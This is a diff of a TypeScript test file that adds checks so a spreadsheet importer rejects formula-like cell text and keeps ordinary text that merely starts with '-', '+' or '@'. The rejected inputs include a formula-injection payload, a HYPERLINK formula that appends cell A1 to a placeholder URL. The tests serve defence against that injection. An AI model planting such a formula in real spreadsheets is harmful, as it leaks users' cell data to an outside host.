@@ -101,6 +101,34 @@ describe('cells', () => {
   ])('refuse %s with their address', (_, cell, message) => {
     expect(() => rowsOf(oneRow(cell))).toThrow(message);
   });
+
+  const taking = (text: string) => rowsOf(workbookOf({ sheets: [{ rows: textRows([['问题'], [text]]) }] }));
+
+  test.each([
+    '+HYPERLINK("http://x/?"&A1)',
+    '@SUM(1,2)',
+    '＝SUM(1,2)',
+    '-2+3',
+    '+A1',
+    '-$B$2*3',
+    '+(A1+1)',
+    "+'别的'!A1",
+  ])('refuse %s, which a spreadsheet would compute', (text) => {
+    expect(() => taking(text)).toThrow(`A2 格的文字像公式：${text}`);
+  });
+
+  test.each([
+    '-登记不全',
+    '-5',
+    '-3.5%',
+    '-PM2.5超标',
+    '-A1区照明不足',
+    '+86办公室',
+    '@文化站',
+    '－一是登记',
+  ])('take %s, which is no formula', (text) => {
+    expect(taking(text)[1]).toEqual([text]);
+  });
 });
 
 describe('rows and columns', () => {
@@ -312,7 +340,7 @@ test('what is written as .xlsx comes back as the same cells', () => {
   const cell = fc
     .array(line, { maxLength: 3 })
     .map((lines) => lines.join('\n').trim())
-    .filter((text) => !/^[=+\-@]|_x[0-9A-F]{4}_/i.test(text));
+    .filter((text) => !/^[=+\-@＝＋－＠]|_x[0-9A-F]{4}_/i.test(text));
   const row = fc.tuple(fc.integer({ min: 1, max: 999 }).map(String), cell, cell, cell);
   fc.assert(
     fc.property(fc.array(row, { minLength: 1, maxLength: 8 }), (rows) => {
